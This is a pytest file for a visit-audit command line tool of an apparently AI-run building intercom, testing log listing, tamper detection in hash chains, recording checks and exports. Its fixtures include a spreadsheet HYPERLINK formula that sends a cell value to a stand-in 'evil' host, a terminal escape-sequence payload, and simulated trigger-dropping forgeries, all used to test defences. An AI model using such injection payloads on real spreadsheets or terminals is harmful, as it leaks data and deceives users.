"""``porteiro audit``: what a reviewer sees, what a spreadsheet gets, and what exit codes say."""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import json
import os
import re
import sqlite3
import stat
import subprocess
import sys
import textwrap
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridge.commands.audit import add_parser, cell, run
from bridge.commands.audit_story import line
from bridge.showing import safe
from storage.sqlite import SqliteStorage
from visits.audit import AuditRecord, stamp, verify

ROOT = Path(__file__).parents[2]
START = datetime(2025, 11, 21, 13, 5, tzinfo=UTC)
VISIT = "6f1c2e34-0000-4000-8000-00000000abcd"
SECOND = "6f1c2e34-0000-4000-8000-00000000abce"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"veja")'
ESCAPE = "\x1b]0;owned\x07\x1b[2J\u202eodazirotua"

STORY: list[tuple[str, dict[str, Any]]] = [
    ("visit.started", {"provider": "local"}),
    ("leg.connected", {"leg": "visitor", "role": "visitor"}),
    ("turn", {"leg": "visitor", "speaker": "agent", "text": "Bom dia!", "started_ms": 100, "ended_ms": 900}),
    (
        "tool.called",
        {"leg": "visitor", "call": "c1", "name": "lookup_apartment", "arguments": {"spoken": "501"}},
    ),
    (
        "tool.answered",
        {
            "leg": "visitor",
            "call": "c1",
            "name": "lookup_apartment",
            "result": {"status": "found"},
            "ms": 12.3,
            "status": "ok",
        },
    ),
    (
        "turn",
        {
            "leg": "visitor",
            "speaker": "caller",
            "text": "É no quinhentos e um",
            "started_ms": 1500,
            "ended_ms": 2600,
            "response_ms": 600,
        },
    ),
    ("dial.started", {"attempt": "a1", "number": 1, "apartment": "501"}),
    ("dial.ended", {"attempt": "a1", "outcome": "answered"}),
    ("leg.connected", {"leg": "a1", "role": "resident"}),
    ("briefing.played", {"attempt": "a1"}),
    ("note", {"about": ESCAPE}),
    ("evidence", {"attempt": "a1", "by": "voice", "text": "Pode deixar subir", "began_s": 9.5}),
    ("decision", {"decision": "authorized", "evidence": [{"by": "voice", "text": "Pode deixar subir"}]}),
    ("gate.requested", {"apartment": "501"}),
    ("gate.answered", {"opened": True, "detail": "200 OK"}),
    ("recording.failed", {"leg": "a1", "reason": "full"}),
    ("leg.ended", {"leg": "a1", "reason": "goodbye"}),
    (
        "visit.ended",
        {"outcome": "authorized", "reason": "opened", "visitor_name": FORMULA, "intent": "visita"},
    ),
]


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "porteiro.db"

    async def write() -> None:
        async with await SqliteStorage.open(path) as storage:
            for second, (kind, data) in enumerate(STORY):
                at = stamp(START + timedelta(seconds=second))
                await storage.append("jardim", VISIT, at, kind, data)
            await storage.append("outro", SECOND, stamp(START + timedelta(hours=1)), "visit.started", {})

    asyncio.run(write())
    return path


def porteiro(db: Path | None, *words: str) -> int:
    parser = argparse.ArgumentParser()
    add_parser(parser.add_subparsers(required=True))
    action, *rest = words
    args = parser.parse_args(["audit", action, *(["--db", str(db)] if db else []), *rest])
    return run(args)


def edit(db: Path, sql: str) -> None:
    connection = sqlite3.connect(db, isolation_level=None)
    connection.execute("DROP TRIGGER audit_is_not_changed")
    connection.execute("DROP TRIGGER audit_is_not_deleted")
    connection.execute("DROP TRIGGER audit_personal_is_not_changed")
    assert connection.execute(sql).rowcount == 1
    connection.close()


def test_the_list_shows_each_visit_and_how_it_ended(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert porteiro(db, "list") == 0
    first, second = [text for text in capsys.readouterr().out.splitlines() if "6f1c2e34" in text]
    assert SECOND in first and "running" in first
    assert VISIT in second and "authorized" in second and "opened" in second and " 17 " in second
    assert porteiro(db, "list", "--tenant", "jardim", "--json") == 0
    (visit,) = json.loads(capsys.readouterr().out)
    assert (visit["id"], visit["gate_opened"], visit["apartment"]) == (VISIT, True, "501")


def test_the_list_is_of_the_time_that_is_asked_for(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def ids(*words: str) -> list[str]:
        assert porteiro(db, "list", "--json", *words) == 0
        return [visit["id"] for visit in json.loads(capsys.readouterr().out)]

    assert ids("--since", "2025-11-21T13:30+00:00") == [SECOND]
    assert ids("--until", "2025-11-21T10:30-03:00") == [VISIT]
    assert ids("--since", "0m") == []
    assert ids("--since", "9000d") == [SECOND, VISIT]
    assert ids("--outcome", "authorized") == [VISIT]
    assert ids("--limit", "1") == [SECOND]


@pytest.mark.parametrize(
    "words", [["--since", "yesterday"], ["--since", "999999d"], ["--limit", "0"], ["--limit", "x"]]
)
def test_what_is_not_understood_is_said(
    db: Path, words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as caught:
        porteiro(db, "list", *words)
    assert caught.value.code == 2
    assert words[1] in capsys.readouterr().err


def test_show_tells_the_whole_story_in_order(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert porteiro(db, "show", VISIT) == 0
    shown = capsys.readouterr().out
    places = [
        shown.index(text)
        for text in (
            "the visit starts",
            "“Bom dia!”",
            "“É no quinhentos e um”  (1.1 s, after 600 ms)",
            'lookup_apartment(spoken="501")',
            'lookup_apartment → {"status": "found"}  (ok, 12 ms)',
            "the resident's phone rings",
            "ringing ended: answered",
            "the resident heard the briefing",
            "evidence by voice: “Pode deixar subir”",
            "DECISION: authorized",
            "the gate is told to open",
            "GATE opened: 200 OK",
            "the visit ends: authorized",
        )
    ]
    assert places == sorted(places)
    assert "+0.10 s" in shown and "+1.50 s" in shown and "+17.00 s" in shown
    assert all(f"#{number} " in shown for number in range(1, len(STORY) + 1))


def test_what_callers_say_can_do_nothing_to_the_terminal(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert porteiro(db, "show", VISIT[:12], "--tenant", "jardim") == 1  # the beginning of two visits
    assert "begins 2 visits" in capsys.readouterr().err
    assert porteiro(db, "show", VISIT) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "owned" in shown


def test_show_as_json_has_records_that_verify(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert porteiro(db, "show", VISIT, "--json") == 0
    told = json.loads(capsys.readouterr().out)
    assert told["intact"] is True
    assert told["visit"]["decision"]["decision"] == "authorized"
    assert told["visit"]["tool_calls"][0]["result"] == {"status": "found"}
    assert verify(AuditRecord(**record) for record in told["records"]) == []


def test_show_of_no_visit_is_a_failure(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for words in (["ffff"], [""], ["%"], [SECOND, "--tenant", "jardim"]):
        assert porteiro(db, "show", *words) == 1
        assert capsys.readouterr().err


def test_show_marks_a_record_that_was_changed(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edit(
        db,
        "UPDATE audit_personal SET data = replace(data, 'deixar', 'não') WHERE seq = 12",
    )
    assert porteiro(db, "show", VISIT) == 1
    marked = [text for text in capsys.readouterr().out.splitlines() if "CHANGED AFTERWARDS" in text]
    assert len(marked) == 1 and marked[0].strip().startswith("#12 ")


def test_verify_says_that_all_is_sound_and_prints_the_heads(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert porteiro(db, "verify") == 0
    shown = capsys.readouterr().out
    assert f"jardim: {len(STORY)} records" in shown and "outro: 1 records" in shown
    assert porteiro(db, "verify", "--json") == 0
    told = json.loads(capsys.readouterr().out)
    assert told["ok"] is True and told["faults"] == []
    heads = [f"{chain['tenant']}={chain['head']}" for chain in told["chains"]]
    assert all(head in shown for head in heads)
    assert porteiro(db, "verify", *(word for head in heads for word in ("--head", head))) == 0


def test_verify_names_the_record_and_fails(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edit(db, "UPDATE audit SET data = replace(data, 'true', 'false') WHERE kind = 'gate.answered'")
    assert porteiro(db, "verify") == 1
    shown = capsys.readouterr().out
    assert f"changed: record 15 of visit {VISIT} (tenant jardim)" in shown
    assert "✓ outro" in shown and "✗ jardim" in shown
    assert porteiro(db, "verify", "--tenant", "outro") == 0
    assert porteiro(db, "verify", "--tenant", "nobody") == 1
    capsys.readouterr()
    assert porteiro(db, "verify", "--json") == 1
    (fault,) = json.loads(capsys.readouterr().out)["faults"]
    assert (fault["kind"], fault["seq"], fault["visit"]) == ("changed", 15, VISIT)


# --------------------------------------------------------------------------------------------------------
# Recordings
# --------------------------------------------------------------------------------------------------------


@pytest.fixture
def recordings(db: Path) -> Path:
    """Three recordings, two of which were closed in order."""
    root = db.parent / "recordings"
    root.mkdir()

    async def write() -> None:
        async with await SqliteStorage.open(db) as storage:
            for leg in ("visitor", "resident-1", "resident-2"):
                (root / f"{leg}.wav").write_bytes(leg.encode() * 1000)
                about = {"leg": leg, "recording": f"{leg}.wav"}
                if leg != "visitor":
                    await storage.append(
                        "jardim", VISIT, stamp(START), "leg.connected", {**about, "role": "resident"}
                    )
                await storage.append(
                    "jardim", VISIT, stamp(START), "leg.ended", {**about, "reason": "hangup"}
                )
                if leg != "resident-2":
                    data = (root / f"{leg}.wav").read_bytes()
                    digest = {"bytes": len(data), "sha256": sha256(data).hexdigest()}
                    await storage.append("jardim", VISIT, stamp(START), "recording.closed", about | digest)

    asyncio.run(write())
    return root


def test_verify_holds_the_recordings_against_the_log(
    db: Path, recordings: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert porteiro(db, "verify", "--recordings", str(recordings)) == 0
    shown = capsys.readouterr().out
    assert "what the log says: 2." in shown and "which prove nothing: 1." in shown
    file = recordings / "resident-1.wav"
    whole = file.read_bytes()
    for spoilt in (whole[:-1], b"X" + whole[1:], whole + b"X"):
        file.write_bytes(spoilt)
        assert porteiro(db, "verify", "--recordings", str(recordings)) == 1
        shown = capsys.readouterr().out
        assert f"recording-changed: resident-1.wav of visit {VISIT} (tenant jardim)" in shown
    file.unlink()
    os.mkfifo(file)  # which would hold up whoever opens it
    for expected in ("not a plain file", "No such file"):
        assert porteiro(db, "verify", "--recordings", str(recordings), "--json") == 1
        (fault,) = json.loads(capsys.readouterr().out)["faults"]
        assert (fault["kind"], fault["place"]) == ("recording-missing", "resident-1.wav")
        assert expected in fault["detail"]
        file.unlink(missing_ok=True)
    assert porteiro(db, "verify", "--no-recordings") == 0
    assert porteiro(db, "verify", "--tenant", "outro", "--recordings", str(recordings)) == 0


def test_verify_looks_where_the_settings_say(
    db: Path, recordings: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(db.parent)
    monkeypatch.setenv("PORTEIRO_SERVICE__DATA_DIR", str(db.parent))
    assert porteiro(None, "verify") == 0
    assert "what the log says: 2." in capsys.readouterr().out
    (recordings / "visitor.wav").unlink()
    assert porteiro(None, "verify") == 1
    assert porteiro(None, "verify", "--no-recordings") == 0


def test_the_settings_may_be_in_another_file(
    db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    settings = tmp_path / "other.toml"
    settings.write_text(f'[service]\ndata_dir = "{db.parent}"\n\n[tenants.jardim]\n', encoding="utf-8")
    assert porteiro(None, "verify", "--no-recordings") == 2
    assert porteiro(None, "verify", "--no-recordings", "--config", str(settings)) == 0
    assert "Every chain is sound." in capsys.readouterr().out


# --------------------------------------------------------------------------------------------------------
# Heads, and what is not there
# --------------------------------------------------------------------------------------------------------


def test_heads_that_were_kept_elsewhere_are_held_against_the_log(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert porteiro(db, "head") == 0
    printed = capsys.readouterr().out
    assert re.fullmatch(rf"jardim={len(STORY)}:[0-9a-f]{{64}}\noutro=1:[0-9a-f]{{64}}\n", printed)
    assert porteiro(db, "head", "--tenant", "outro", "--json") == 0
    assert list(json.loads(capsys.readouterr().out)) == ["outro"]
    kept = tmp_path / "heads.txt"
    kept.write_text(f"# Monday\n{printed}\n")
    assert porteiro(db, "verify", "--heads", str(kept)) == 0
    kept.write_text(f"outro=1:{'0' * 64}\n{printed}")  # from before somebody wrote that chain anew
    capsys.readouterr()
    assert porteiro(db, "verify", "--heads", str(kept)) == 1
    assert "rewritten: record 1" in capsys.readouterr().out
    assert porteiro(db, "verify", "--head", f"gone=7:{'0' * 64}") == 1
    assert "truncated: records 1 to 7 (tenant gone)" in capsys.readouterr().out
    kept.write_text("jardim\n")
    assert porteiro(db, "verify", "--heads", str(kept)) == 2
    assert f"{kept}, line 1" in capsys.readouterr().err
    assert porteiro(db, "verify", "--heads", str(tmp_path / "none")) == 2


def test_verify_names_a_row_that_the_records_do_not_give(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shell = sqlite3.connect(db, isolation_level=None)
    shell.execute("UPDATE visits SET outcome = 'denied' WHERE tenant = 'jardim'")
    shell.close()
    assert porteiro(db, "verify") == 1
    expected = (
        f"row-changed: visits.outcome of visit {VISIT} (tenant jardim): row: the table has 'denied', the "
        "records give 'authorized'"
    )
    assert expected in capsys.readouterr().out


@pytest.mark.parametrize(
    ("words", "code", "said"),
    [
        (["list", "--tenant", "jardin"], 1, "tenant 'jardin' has no records; allowed: jardim, outro"),
        (["head", "--tenant", "jardin"], 1, "tenant 'jardin' has no records; allowed: jardim, outro"),
        (["export", "--tenant", "jardin"], 1, "tenant 'jardin' has no records; allowed: jardim, outro"),
        (["export", "--visit", VISIT[:8]], 1, f"'{VISIT[:8]}' is no visit here; allowed: a whole id"),
        (["list", "--outcome", "denied"], 0, "no visit matches"),
        (["list", "--since", "0m", "--json"], 0, "no visit matches"),
    ],
)
def test_what_is_not_there_is_said(
    db: Path, words: list[str], code: int, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert porteiro(db, *words) == code
    shown = capsys.readouterr()
    assert said in shown.err
    assert shown.out == ("[]\n" if "--json" in words else "")


def test_an_outcome_that_is_none_is_refused_with_those_that_are(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as caught:
        porteiro(db, "list", "--outcome", "autorized")
    assert caught.value.code == 2
    shown = capsys.readouterr().err
    assert "autorized" in shown and "abandoned" in shown


def test_verify_finds_a_cut_tail_by_the_head_that_was_noted(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert porteiro(db, "verify", "--json") == 0
    chain = json.loads(capsys.readouterr().out)["chains"][0]
    edit(db, f"DELETE FROM audit WHERE seq = {len(STORY)} AND tenant = 'jardim'")
    assert porteiro(db, "verify") == 1  # the database's own notes
    assert f"truncated: record {len(STORY)}" in capsys.readouterr().out
    forge = sqlite3.connect(db, isolation_level=None)  # … which somebody thorough makes fit
    forge.execute("DROP TRIGGER heads_go_on")
    forge.execute("DROP TRIGGER audit_personal_is_erased_on_record")
    forge.execute(f"DELETE FROM audit_personal WHERE seq = {len(STORY)} AND tenant = 'jardim'")
    forge.execute(
        "UPDATE heads SET (seq, hash) = (SELECT seq, hash FROM audit WHERE tenant = 'jardim'"
        " ORDER BY seq DESC LIMIT 1) WHERE tenant = 'jardim'"
    )
    known = "ended_at = NULL, outcome = NULL, reason = NULL, visitor_name = NULL, intent = NULL"
    forge.execute(f"UPDATE visits SET {known} WHERE tenant = 'jardim'")
    forge.close()
    assert porteiro(db, "verify") == 0
    assert porteiro(db, "verify", "--head", f"jardim={chain['head']}") == 1
    assert f"truncated: record {len(STORY)}" in capsys.readouterr().out
    with pytest.raises(SystemExit):
        porteiro(db, "verify", "--head", "jardim")


def test_the_export_can_be_verified_by_anybody(
    db: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert porteiro(db, "export", "--tenant", "jardim") == 0
    records = [AuditRecord(**json.loads(text)) for text in capsys.readouterr().out.splitlines()]
    assert len(records) == len(STORY) and verify(records) == []
    out = tmp_path / "out.jsonl"
    assert porteiro(db, "export", "--visit", SECOND, "--out", str(out)) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [json.loads(text)["visit"] for text in out.read_text().splitlines()] == [SECOND]
    assert porteiro(db, "export", "--kind", "decision", "--kind", "gate.answered", "--json") == 0
    kinds = [json.loads(text)["kind"] for text in capsys.readouterr().out.splitlines()]
    assert kinds == ["decision", "gate.answered"]
    assert porteiro(db, "export", "--out", str(tmp_path)) == 2


def test_a_csv_is_a_table_without_formulas(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert porteiro(db, "export", "--csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == len(STORY) + 1
    assert rows[12]["kind"] == "decision" and json.loads(rows[12]["data"])["decision"] == "authorized"
    assert porteiro(db, "list", "--csv") == 0
    (row,) = [r for r in csv.DictReader(io.StringIO(capsys.readouterr().out)) if r["id"] == VISIT]
    assert row["visitor_name"] == "'" + FORMULA
    assert row["gate_opened"] == "true"


@given(
    st.text() | st.sampled_from("=+-@\t\r＝").flatmap(lambda sign: st.text().map(lambda rest: sign + rest))
)
def test_no_cell_begins_as_a_formula(text: str) -> None:
    written = cell(text)
    assert not written.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert written in (text, "'" + text)


@given(st.text())
def test_no_text_reaches_the_terminal_with_a_control_sign(text: str) -> None:
    assert safe(text).isprintable()


def test_a_gate_of_which_nobody_knows_is_not_called_closed() -> None:
    data = {"opened": False, "detail": "no answer in 5 s"}
    for more, words in (({"unknown": True}, "may have opened, nobody knows"), ({}, "not opened")):
        text, _ = line(AuditRecord(1, "t", "", "", "gate.answered", {**data, **more}, "", ""))
        assert text == f"GATE {words}: no answer in 5 s"


@given(
    st.sampled_from([kind for kind, _ in STORY]),
    st.dictionaries(st.text(), st.none() | st.integers() | st.text()),
)
def test_a_record_of_any_shape_is_shown(kind: str, data: dict[str, Any]) -> None:
    """Somebody's edit can have any shape; the reader still gets the story."""
    text, _ = line(AuditRecord(1, "t", "", "", kind, data, "", ""))
    assert text


def test_a_log_that_cannot_be_read_is_an_error_that_says_why(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # where no demo has left a log
    assert porteiro(tmp_path / "none.db", "list") == 2
    assert "none.db" in capsys.readouterr().err
    assert porteiro(None, "verify") == 2
    assert "--db" in capsys.readouterr().err
    (tmp_path / "text.db").write_text("no database" * 200)
    assert porteiro(tmp_path / "text.db", "verify") == 2
    assert "text.db" in capsys.readouterr().err
    assert not (tmp_path / "none.db").exists()


def test_a_reader_that_had_enough_is_no_error(db: Path) -> None:
    program = textwrap.dedent(
        f"""
        import argparse, sys
        from bridge.commands.audit import add_parser, run
        parser = argparse.ArgumentParser()
        add_parser(parser.add_subparsers())
        sys.exit(run(parser.parse_args(["audit", "export", "--db", {str(db)!r}])))
        """
    )
    with subprocess.Popen(
        [sys.executable, "-c", program], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        assert process.stdout is not None and process.stderr is not None
        process.stdout.close()
        assert process.stderr.read() == b""
        assert process.wait(20) == 0
